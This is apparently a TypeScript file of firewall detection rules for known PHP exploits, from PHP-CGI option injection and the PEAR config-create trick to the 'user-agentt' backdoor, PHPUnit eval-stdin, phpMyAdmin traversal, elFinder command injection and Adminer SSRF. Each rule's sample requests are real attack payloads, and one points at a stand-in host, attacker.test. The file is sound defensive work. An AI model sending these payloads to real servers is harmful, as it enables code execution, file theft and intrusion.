import { filePost, formPost, get, send } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  decodedQueryMatches,
  EXECUTABLE,
  fieldIs,
  fieldMatches,
  fileNameMatches,
  hasField,
  hasHeader,
  outsideSources,
  pathEnds,
  pathHas,
  queryHas,
  rawPathHas,
  uriHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** PHP itself, its libraries and administration tools. */
export const phpRules = [
  detection({
    ref: 'managed-php-cgi-options',
    description:
      'PHP CGI: passes options to the interpreter with the query (CVE-2012-1823, CVE-2012-2311, CVE-2024-4577)',
    categories: [
      'php',
      'code-injection',
      'remote-code-execution',
      'cve-2012-1823',
      'cve-2012-2311',
      'cve-2024-4577',
    ],
    expression: allOf(
      uriHas('?-', '?%2d', '?%ad', '?+-', '?+%2d', '?+%ad', '?%20-'),
      decodedQueryMatches(
        '^[ ]*[-\\xad](?:[ns]$|[ns] |d *(?:allow_|auto_|cgi[._]|disable_|open_basedir|safe_mode|suhosin|short_open))',
      ),
    ),
    matching: [
      formPost('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', {
        x: '1',
      }),
      formPost(
        '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
        { x: '1' },
      ),
      get('/?-s'),
    ],
    other: [get('/search?-price'), get('/?-draft=1'), get('/items?q=-d+x')],
  }),
  detection({
    ref: 'managed-php-register-argc',
    description:
      'Laravel, Craft CMS, Symfony: sets options of the command line with the query (CVE-2024-50340, CVE-2024-52301, CVE-2024-56145)',
    categories: [
      'php',
      'laravel',
      'symfony',
      'craft-cms',
      'code-injection',
      'cve-2024-50340',
      'cve-2024-52301',
      'cve-2024-56145',
    ],
    expression: allOf(
      uriHas('?--', '?+--', '?%2d%2d', '?-%2d', '?+-'),
      decodedQueryMatches('^[ ]*--?(?:env|e|templatespath|configpath|no-debug)(?:=| |$)'),
    ),
    matching: [
      get('/?--env=local'),
      get('/?+--env=dev'),
      get('/?--templatesPath=ftp://attacker.test/'),
    ],
    other: [get('/?--'), get('/search?q=--env=local')],
  }),
  detection({
    ref: 'managed-php-pear-command',
    description:
      'PHP: writes a script with the command of PEAR through a file inclusion (CVE-2022-47945)',
    categories: ['php', 'thinkphp', 'file-inclusion', 'remote-code-execution', 'cve-2022-47945'],
    expression: anyOf(queryHas('/pearcmd', '+config-create+'), pathHas('/pearcmd.php')),
    matching: [
      get('/index.php?lang=../../../../usr/local/lib/php/pearcmd&+config-create+/&/x+/tmp/a.php'),
      get('/usr/share/php/pearcmd.php?+config-create+/tmp/x'),
    ],
    other: [get('/docs/pear?lang=en'), get('/recipes?q=pear+config')],
  }),
  detection({
    ref: 'managed-php-fpm-newline',
    description:
      'PHP-FPM behind nginx: underflows a buffer with a newline in the path (CVE-2019-11043)',
    categories: ['php', 'nginx', 'remote-code-execution', 'cve-2019-11043'],
    expression: allOf(rawPathHas('.php/', '.php%0a'), rawPathHas('%0a')),
    matching: [get('/index.php/PHP%0Ais_the_shittiest_lang.php?QQQ'), get('/index.php%0a')],
    other: [get('/index.php/page/a%20b'), get('/index.php?x=a%0ab')],
  }),
  detection({
    ref: 'managed-php-backdoor-header',
    description:
      'PHP 8.1.0-dev: runs code in a misspelt header, with which an attacker of its repository had marked it',
    categories: ['php', 'backdoor', 'remote-code-execution', 'header'],
    expression: hasHeader('user-agentt'),
    matching: [
      get('/', { 'user-agentt': "zerodiumsystem('id');" }),
      get('/index.php', { 'user-agentt': 'zerodiumvar_dump(1);' }),
    ],
    other: [get('/', { 'user-agent': 'zerodium' }), get('/')],
  }),
  detection({
    ref: 'managed-phpunit-eval-stdin',
    description: 'PHPUnit: runs the body of the request (CVE-2017-9841)',
    categories: ['php', 'phpunit', 'code-injection', 'remote-code-execution', 'cve-2017-9841'],
    expression: allOf(
      pathHas('/eval-stdin.php', '/phpunit/phpunit/src/util/php/'),
      outsideSources('eval-stdin'),
    ),
    matching: [
      send(
        'POST',
        '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        'text/plain',
        '<?=md5(1)?>',
      ),
      get('/laravel/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php'),
    ],
    other: [
      get('/ada/phpunit/-/blob/main/src/Util/PHP/eval-stdin.php'),
      get('/vendor/app.js'),
      get('/docs/phpunit/eval'),
    ],
  }),
  detection({
    ref: 'managed-phpmyadmin-target',
    description: 'phpMyAdmin: includes a file whose name follows an allowed one (CVE-2018-12613)',
    categories: ['php', 'phpmyadmin', 'file-inclusion', 'cve-2018-12613'],
    expression: allOf(queryHas('target='), fieldMatches('target', '\\.php(?:%|\\?).*\\.\\.')),
    matching: [
      get('/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../etc/passwd'),
      get('/pma/?target=tbl_sql.php%3f/..%2f..%2fx'),
    ],
    other: [get('/phpmyadmin/index.php?target=db_sql.php&db=a'), get('/go?target=/index.php?x=1')],
  }),
  detection({
    ref: 'managed-phpmyadmin-setup',
    description:
      'phpMyAdmin: writes PHP or objects with the set-up script (CVE-2009-1151, CVE-2010-3055)',
    categories: [
      'php',
      'phpmyadmin',
      'code-injection',
      'deserialization',
      'cve-2009-1151',
      'cve-2010-3055',
    ],
    expression: allOf(pathHas('/scripts/setup.php', '/setup/index.php'), hasField('configuration')),
    matching: [
      formPost('/phpmyadmin/scripts/setup.php', {
        action: 'lay_navigation',
        eoltype: 'unix',
        configuration: 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}',
      }),
      get('/pma/scripts/setup.php?configuration=O:1'),
    ],
    other: [get('/phpmyadmin/setup/index.php'), formPost('/setup/index.php', { step: '2' })],
  }),
  detection({
    ref: 'managed-php-information-page',
    description:
      'PHP: reads the configuration with a forgotten test page. Off by default, because some sites publish such pages',
    categories: ['php', 'information-disclosure'],
    action: 'log',
    isOff: true,
    expression: pathEnds(
      '/phpinfo.php',
      '/info.php',
      '/php_info.php',
      '/phpinfo',
      '/test.php',
      '/i.php',
    ),
    matching: [get('/phpinfo.php'), get('/admin/info.php')],
    other: [get('/product-info.php'), get('/php-information')],
  }),
  detection({
    ref: 'managed-elfinder-archive',
    description:
      'elFinder: passes options to the program that packs archives (CVE-2021-32682, CVE-2019-9194)',
    categories: ['php', 'elfinder', 'command-injection', 'cve-2021-32682', 'cve-2019-9194'],
    expression: allOf(
      pathHas('connector', 'elfinder'),
      fieldIs('cmd', 'archive', 'resize', 'extract'),
      anyOf(
        fieldMatches('name', '^-|`|\\$\\(|;'),
        'any(lower(http.request.uri.args["targets[]"][*])[*] matches r"^-")',
      ),
    ),
    matching: [
      get(
        '/elfinder/php/connector.minimal.php?cmd=archive&name=-TvTT=id%20%23%20a.zip&target=l1_&targets[1]=l1_x',
      ),
      get('/connector.php?cmd=resize&target=l1_x&name=$(id)'),
    ],
    other: [
      get('/elfinder/php/connector.minimal.php?cmd=archive&name=photos.zip&target=l1_'),
      get('/connector.php?cmd=open&name=-'),
    ],
  }),
  detection({
    ref: 'managed-fckeditor-upload',
    description:
      'FCKeditor, CKFinder, KCFinder: upload a script with a trick in the name of its folder (CVE-2009-2265)',
    categories: ['php', 'fckeditor', 'file-upload', 'remote-code-execution', 'cve-2009-2265'],
    expression: allOf(
      pathHas(
        '/fckeditor/',
        '/ckfinder/',
        '/kcfinder/',
        '/filemanager/connectors/',
        '/filemanager/upload/',
      ),
      anyOf(
        fieldMatches('CurrentFolder', `\\x00|${EXECUTABLE}`),
        fieldMatches('NewFolderName', EXECUTABLE),
        fileNameMatches(`${EXECUTABLE}(?:$|[;.\\x00])`),
      ),
    ),
    matching: [
      filePost(
        '/fckeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&Type=File&CurrentFolder=/a.php%00',
        'a.gif',
      ),
      get(
        '/FCKeditor/editor/filemanager/connectors/asp/connector.asp?Command=CreateFolder&Type=File&CurrentFolder=/shell.asp&NewFolderName=z',
      ),
      filePost('/kcfinder/upload.php', 'x.php;.jpg'),
    ],
    other: [
      filePost(
        '/fckeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&CurrentFolder=/images/',
        'photo.jpg',
      ),
      get('/ckfinder/ckfinder.html'),
    ],
  }),
  detection({
    ref: 'managed-adminer-other-server',
    description: 'Adminer: requests internal hosts as a database (CVE-2021-21311)',
    categories: ['php', 'adminer', 'ssrf', 'cve-2021-21311'],
    action: 'log',
    expression: allOf(
      pathHas('adminer'),
      anyOf(
        fieldIs('auth[driver]', 'elastic', 'clickhouse', 'simpledb'),
        hasField('elastic'),
        hasField('clickhouse'),
      ),
    ),
    matching: [
      formPost('/adminer.php', { 'auth[driver]': 'elastic', 'auth[server]': '169.254.169.254:80' }),
      get('/adminer-4.7.8.php?elastic=127.0.0.1&username='),
    ],
    other: [
      formPost('/adminer.php', {
        'auth[driver]': 'server',
        'auth[server]': 'db',
        'auth[username]': 'ada',
      }),
      get('/adminer.php'),
    ],
  }),
];
